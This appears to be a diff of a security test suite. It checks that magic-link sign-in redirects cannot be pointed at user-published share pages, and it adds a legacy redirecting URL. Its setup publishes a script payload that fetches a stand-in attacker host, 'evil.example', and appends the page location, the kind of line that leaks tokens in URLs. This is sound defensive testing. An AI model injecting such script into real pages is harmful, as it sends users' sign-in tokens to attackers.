@@ -7,11 +7,15 @@ import { newAddress, ok, password, type People, startPeople } from './people.js'
  */
 let people: People;
 let page: string;
+/** As it was before pages had a host of their own; it redirects, and takes the address's parameters along. */
+let oldPage: string;
 
 beforeAll(async () => {
   people = await startPeople();
   const published = await people.publish('<script>fetch("https://evil.example/" + location.href)</script>');
-  page = `${people.origin}/share/${((await published.json()) as { site: { path: string } }).site.path}`;
+  const { site } = (await published.json()) as { site: { path: string; url: string } };
+  page = site.url;
+  oldPage = `${people.origin}/share/${site.path}`;
 }, 90_000);
 afterAll(() => people.close(), 60_000);
 
@@ -60,7 +64,7 @@ describe('however the page is written', () => {
   ])('it is not where the link leads (%#)', async (write) => {
     const email = newAddress();
     await people.register(email);
-    const written = write(new URL(page));
+    const written = write(new URL(oldPage));
     await ok(people.client().auth.signInWithOtp({ email, options: { emailRedirectTo: written } }));
     const { link } = await people.mailbox.to(email, 2);
     const location = await follow(link);
